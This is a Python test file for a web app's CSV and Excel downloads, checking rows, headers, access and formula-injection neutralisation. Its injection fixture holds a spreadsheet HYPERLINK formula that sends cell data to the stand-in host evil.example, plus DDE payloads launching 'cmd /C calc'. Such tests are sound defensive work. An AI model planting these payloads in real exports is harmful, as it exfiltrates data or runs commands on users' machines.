"""CSV and Excel downloads: raw values, the same rows as the page, the same access rules."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook


def _csv(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_league_csv_has_raw_values(client):
    response = client.get("/download/league.csv?indicator=doac-share&level=sub-icb")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = _csv(response)
    assert len(rows) == 12
    assert {"org_code", "value", "ci95_low", "ci95_high", "decile", "comparison"} <= set(rows[0])
    assert 0 <= float(rows[0]["value"]) <= 1  # a fraction, not a percentage
    assert [int(r["rank"]) for r in rows] == list(range(1, 13))


def test_excel_download(client):
    response = client.get("/download/league.xlsx?indicator=dementia-diagnosis-rate&level=practice")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content), read_only=True)
    sheet = book["league"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "rank" and len(rows) == 37
    header = list(rows[0])
    assert all(row[header.index("synthetic")] is True for row in rows[1:])
    about = [r[0] for r in book["About"].iter_rows(values_only=True)]
    assert any("Open Government Licence" in (text or "") for text in about)


@pytest.mark.parametrize("url", [
    "/download/organisations.csv?level=icb",
    "/download/organisation.csv?code=MJ0",
    "/download/adoption.csv?indicator=doac-share&level=sub-icb",
    "/download/deciles.csv?indicator=doac-share&level=sub-icb",
    "/download/funnel.csv?indicator=doac-share&level=sub-icb",
    "/download/spc.csv?code=MJ0&indicator=doac-share",
    "/download/compare.csv?codes=QMJ,QKK",
    "/download/batches.csv",
    "/download/indicators.csv",
    "/download/opportunity-totals.csv?indicator=doac-share",
])
def test_public_downloads(client, url):
    response = client.get(url)
    assert response.status_code == 200, response.text
    assert len(_csv(response)) >= 1


def test_unknown_download(client):
    assert client.get("/download/nope.csv").status_code == 404
    assert client.get("/download/league.pdf?indicator=doac-share&level=icb").status_code == 404


# --- formula (CSV) injection -----------------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"x")'


@pytest.fixture(scope="module")
def evil_site(demo, tmp_path_factory):
    """A copy of the demo workspace with one more batch whose source and file names are formulas."""
    import dataclasses
    import shutil

    from fastapi.testclient import TestClient

    import workspace_builder
    from uptake.analytics.store import AnalyticsStore
    from web_support import make_app

    root = tmp_path_factory.mktemp("evil") / "workspace"
    shutil.copytree(demo.workspace.root, root)
    workspace = dataclasses.replace(demo.workspace, root=root)
    indicator, frame = next(iter(workspace_builder.observations(demo.built.organisations).items()))
    AnalyticsStore(workspace.analytics_path).load_observations(
        frame.head(5), indicator=indicator, source=EVIL, file_name="@SUM(1+1)*cmd|' /C calc'!A0.csv",
        file_sha256="e" * 64, loaded_by="-2+3+cmd|' /C calc'!A0")
    built = dataclasses.replace(demo.built, workspace=workspace)
    with TestClient(make_app(dataclasses.replace(demo, built=built))) as client:
        yield client


def test_a_formula_in_a_batch_is_neutralised_in_the_csv(evil_site):
    rows = _csv(evil_site.get("/download/batches.csv"))
    evil = [r for r in rows if EVIL in r["source"]]
    assert len(evil) == 1, rows
    assert evil[0]["source"] == "'" + EVIL
    assert evil[0]["file_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0.csv"
    assert evil[0]["loaded_by"] == "'-2+3+cmd|' /C calc'!A0"
    assert all(not (r[k] or "x")[0] in "=+-@\t\r" for r in rows for k in r)  # no cell starts like a formula


def test_a_formula_in_a_batch_is_text_in_the_excel_download(evil_site):
    book = load_workbook(io.BytesIO(evil_site.get("/download/batches.xlsx").content))
    sheet = book["batches"]
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("source")] for row in sheet.iter_rows(min_row=2)]
    evil = [c for c in cells if EVIL in str(c.value)]
    assert len(evil) == 1
    assert evil[0].data_type == "s" and evil[0].value == "'" + EVIL  # a string, not a formula
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert all(isinstance(row[header.index("batch_id")].value, int) for row in sheet.iter_rows(min_row=2))
